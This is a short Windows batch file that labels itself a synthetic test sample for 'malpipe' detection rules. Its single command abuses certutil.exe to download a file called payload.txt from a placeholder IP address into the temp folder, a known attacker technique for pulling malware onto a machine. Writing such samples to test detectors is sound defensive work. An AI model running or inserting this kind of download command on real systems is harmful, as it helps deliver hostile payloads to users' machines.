@echo off
rem synthetic test sample for malpipe rules/examples
certutil.exe -urlcache -split -f http://192.0.2.10/payload.txt %TEMP%\payload.txt
